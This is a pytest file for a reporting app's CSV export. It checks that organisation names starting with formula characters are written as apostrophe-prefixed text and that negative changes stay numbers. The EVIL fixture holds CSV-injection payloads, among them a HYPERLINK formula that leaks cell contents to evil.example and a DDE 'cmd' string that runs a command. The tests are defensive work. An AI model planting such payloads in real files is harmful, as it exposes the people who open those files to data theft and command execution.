"""No export hands a spreadsheet a formula: names an attacker chose come back as text,
numbers (a negative change included) as numbers (issue 13)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from app.csv_export import csv_text, safe_cell
from tests.reports.conftest import at

EVIL = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1", "-2",
        "@SUM(1)", "\tTAB", "\rCR")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.headers["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8")[1:])))


def assert_no_formula(rows: list[list[str]]) -> None:
    """A cell a spreadsheet would evaluate is only ever a plain number."""
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                float(cell)  # raises for text


def cells(rows: list[list[str]]) -> set[str]:
    return {cell for row in rows for cell in row}


def test_text_starting_like_a_formula_gets_an_apostrophe_and_numbers_stay_numbers():
    text = csv_text(["name", "change"], [[name, Decimal("-11.4")] for name in EVIL]
                    + [["普通单位", -3], ["'quoted", 0.5], [None, None]])

    rows = list(csv.reader(io.StringIO(text[1:])))
    assert [row[0] for row in rows[1:len(EVIL) + 1]] == ["'" + name for name in EVIL]
    assert {row[1] for row in rows[1:len(EVIL) + 1]} == {"-11.4"}
    assert rows[-3:] == [["普通单位", "-3"], ["'quoted", "0.5"], ["", ""]]
    assert safe_cell(Decimal("-11.4")) == Decimal("-11.4")


@pytest.fixture
def evil_orgs(make, log_at):
    """Beijing institutions named like formulas; the first saved less in 2026 than in 2025."""
    orgs = [make.org(name=name, region="beijing", headcount=20) for name in EVIL]
    team = make.team(orgs[0], "-1+1")
    staff = make.user(orgs[0], team)
    log_at(staff, "walk", 10, at("2025-03-10T09:00:00+08:00"))
    log_at(staff, "walk", 8, at("2026-03-10T09:00:00+08:00"))
    return orgs


def test_the_org_report_csv_keeps_a_fall_a_negative_number(client, make, evil_orgs):
    admin = make.user(evil_orgs[0], None, "admin")

    rows = rows_of(client.get(f"/api/v1/reports/orgs/{evil_orgs[0].id}",
                              query_string={"year": 2026, "format": "csv"},
                              headers=make.headers(admin)))

    assert_no_formula(rows)
    header, march = rows[0], rows[3]
    assert float(march[header.index("co2e_saved_kg_change_pct")]) == -20.0


def test_the_region_report_csv_writes_names_as_text(client, make, evil_orgs):
    superadmin = make.user(None, None, "superadmin")

    rows = rows_of(client.get("/api/v1/reports/region",
                              query_string={"region": "beijing", "year": 2026, "format": "csv"},
                              headers=make.headers(superadmin)))

    assert_no_formula(rows)
    assert {"'" + name for name in EVIL} <= cells(rows)
    header = rows[0]
    fallen = next(row for row in rows if row[header.index("id")] == str(evil_orgs[0].id))
    assert float(fallen[header.index("co2e_saved_kg_change_pct")]) == -20.0


def test_the_public_disclosure_csv_writes_names_as_text(client, evil_orgs):
    rows = rows_of(client.get("/api/v1/public/disclosure",
                              query_string={"region": "beijing", "year": 2026, "format": "csv"}))

    assert_no_formula(rows)
    assert {"'" + name for name in EVIL} <= cells(rows)
